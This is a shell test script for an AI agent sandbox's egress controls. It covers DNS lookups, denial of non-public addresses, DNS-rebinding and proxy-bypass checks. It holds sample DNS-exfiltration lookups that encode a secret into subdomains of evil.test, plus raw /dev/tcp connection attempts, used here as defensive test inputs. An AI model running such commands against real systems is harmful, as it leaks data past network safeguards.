#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
#
# Names and what they lead to, with a name server outside that lies (nameserver.py): what of a name
# gets out, which addresses are connected to, and that nothing outside can see the box's own doors.

. "$(dirname "$0")/lib.sh"
world "$0" "$@"
workspace
echo "hosts: files dns" >"$WORLD/nsswitch.conf"
profile names "[profile]" "extends = offline" "[egress]" "allow = *.names.test" \
	"allow = *.names.test:9007"

# Port 9007 of a public and of a private address.
python3 -I -c '
import socket, threading
def serve(listener, word):
    while True:
        s, _ = listener.accept()
        s.sendall(word)
        s.close()
for address, word in (("93.184.216.34", b"public\n"), ("10.99.0.1", b"private\n")):
    listener = socket.create_server((address, 9007))
    threading.Thread(target=serve, args=(listener, word)).start()
print("ready", flush=True)' >"$scratch/ready" &
origin=$!
within test -s "$scratch/ready"

# asked: the names that the name server outside was asked for.
asked() {
	awk '$1 == "DNS" { print $3 }' "$WORLD/requests" | sort -u | tr '\n' ' '
}
forget() {
	: >"$WORLD/requests"
}
# get HOST: what the box gets from there.
get() {
	printf 'timeout 20 curl -sS --noproxy "*" http://%s/x; ' "$1"
}

# --- what gets out ---
forget
sh_box names "getent ahosts c2VjcmV0.evil.test; getent ahosts c2VjcmV0.names.test; nslookup -type=TXT c2VjcmV0.names.test
	nslookup -type=MX public.names.test; nslookup c2VjcmV0.evil.test 93.184.216.34
	nslookup c2VjcmV0.names.test 10.99.0.1; $(get c2VjcmV0.evil.test)"
has "a denied name is answered in the box" "$out" "agentbox denied c2vjcmv0.evil.test"
is "no question of the box gets out" "$(asked)" ""
forget
sh_box names "$(get public.names.test) $(get PUBLIC.names.test.) $(get public.names.test)"
is "a name that is connected to is looked up" "$out" "hello from public.names.test/x
hello from public.names.test/x
hello from public.names.test/x"
is "as it was judged" "$(asked)" "public.names.test "
is "once" "$(grep -c '^DNS 1 ' "$WORLD/requests")" 1

# --- where it leads ---
for label in private mixed alias mapped nat64 sixtofour local6 unique6 metadata6 metadata carrier zero \
	loopback benchmark multicast broadcast; do
	forget
	sh_box names "$(get $label.names.test)"
	has "an address that is not public: $label" "$out" "agentbox denied $label.names.test:80: its address is not public"
	is "nothing arrives: $label" "$(grep -v ^DNS "$WORLD/requests")" ""
done
if [ -e /proc/net/if_inet6 ]; then
	sh_box names "$(get six.names.test)"
	is "an address of IPv6" "$out" "hello from six.names.test/x"
else
	skip "an address of IPv6" "this kernel has none"
fi
sh_box names "$(get none.names.test)"
has "a name without an address" "$out" "there is no such host"
sh_box names "$(get many.names.test)"
has "a name with a hundred" "$out" "too many addresses"
sh_box names "$(get nowhere.names.test)"
has "a name that does not exist" "$out" "there is no such host"
has "whoever started the task is told" "$err" \
	"agentbox: nowhere.names.test:80 cannot be reached: there is no such host"

# Public for who looks first, private for who looks again: what was judged is what is connected to.
forget
# shellcheck disable=SC2016 # for the shell in the box
sh_box names 'for i in $(seq 30); do
	timeout 5 bash -c "cat </dev/tcp/rebind$i.names.test/9007" & done; wait'
is "a name that changes its address leads to the one that was judged" "$(sort <<<"$out" | uniq -c |
	tr -s ' ')" " 30 public"
is "and is looked up once for each" "$(grep -c '^DNS 1 rebind' "$WORLD/requests")" 30
sh_box names 'for i in 1 2 3; do timeout 5 bash -c "cat </dev/tcp/rebind.names.test/9007"; done'
is "also by several connections" "$out" $'public\npublic\npublic'
sh_box names 'timeout 5 bash -c "cat </dev/tcp/rebind.names.test/9007"'
is "the next task judges anew" "$out" ""
ok "and says why" event '.event == "net.connect" and .verdict == "deny" and .address == "10.99.0.1"'

profile without "[profile]" "extends = names" "[egress]" "deny = 93.184.216.34"
sh_box without "$(get public.names.test)"
has "an address that a rule denies, by any name" "$out" "a rule of the profile denies it"
has "with that rule" "$out" "deny = 93.184.216.34"

# --- without a proxy, or past one ---
sh_box names "NO_PROXY='*' no_proxy='*' http_proxy= curl -sS http://93.184.216.34/x; $(get good.test)"
has "NO_PROXY and an address change nothing" "$out" "agentbox denied 93.184.216.34:80"
has "nor does a name" "$out" "agentbox denied good.test:80"

# --- who asks and is gone, before there is an egress process ---
# shellcheck disable=SC2016 # for the shell in the box
box names bash -c 'read -r _ server </etc/resolv.conf
	printf "\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x04gone\x04test\0\0\x01\0\x01" >"/dev/udp/$server/53"'
ok "a question for a name is in the log" event '.event == "dns.query" and .host == "gone.test"'
box names bash -c 'exec 3<>/dev/tcp/198.18.77.7/80 && echo >&3'
ok "and so is a connection" event '.event == "net.connect" and .address == "198.18.77.7" and
	.verdict == "deny"'
box names bash -c 'exec 3<>/dev/tcp/93.184.216.34/9'
ok "and an attempt at another port" event '.event == "net.refused" and .port == 9'

# --- what is seen from outside ---
# But that of the supervisor for `agentbox policy`: reload.sh shows whom that answers.
listeners() {
	cat /proc/net/tcp /proc/net/tcp6 /proc/net/udp /proc/net/udp6 /proc/net/raw /proc/net/packet \
		2>/dev/null | awk '$4 == "0A" || $4 == "07" { print $2 }' | sort
	awk '$8 ~ /^@/ && $8 !~ /^@agentbox\// { print $8 }' /proc/net/unix | sort
}
before=$(listeners)
mkfifo "$scratch/hold"
"$AGENTBOX" exec -p names -- sh -c 'echo up; cat' <"$scratch/hold" >"$scratch/up" 2>/dev/null &
task=$!
exec 7>"$scratch/hold"
within test -s "$scratch/up"
ok "the egress of a box that runs" test -s "$scratch/up"
is "has no door that others could use" "$(listeners)" "$before"
exec 7>&-
wait "$task"
kill "$origin"
finish
